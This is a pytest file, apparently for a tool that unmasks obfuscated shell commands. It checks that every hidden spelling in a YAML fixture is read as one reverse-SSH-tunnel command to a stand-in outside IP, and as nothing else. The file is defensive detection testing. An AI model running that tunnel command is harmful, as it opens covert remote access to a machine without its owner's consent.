"""The same command in many spellings: each must be read as exactly that command."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from tests.read.python.readings import lines_of, read

COMMAND = "ssh -N -R 2222:localhost:22 agent@203.0.113.7"
CASES = yaml.safe_load(Path(__file__).with_name("hidden_commands.yaml").read_text(encoding="utf-8"))


def test_there_are_many_spellings() -> None:
    """The fixture was read, and each spelling has a name of its own."""
    assert len(CASES) >= 67
    assert len({case["id"] for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=lambda case: str(case["id"]))
def test_the_command_is_recovered(case: dict[str, str]) -> None:
    """However it is spelled, the command comes out as one effect with exactly these words."""
    reading = read(case["code"])
    assert COMMAND in lines_of(reading)
    assert not reading.gaps


@pytest.mark.parametrize("case", CASES, ids=lambda case: str(case["id"]))
def test_no_other_program_is_started(case: dict[str, str]) -> None:
    """Nothing but the command, its interpreter and what says how it was hidden is reported."""
    others = [line for line in lines_of(read(case["code"])) if line != COMMAND]
    assert [line for line in others if not line.startswith(("hiding.", "file.", "bash "))] == []
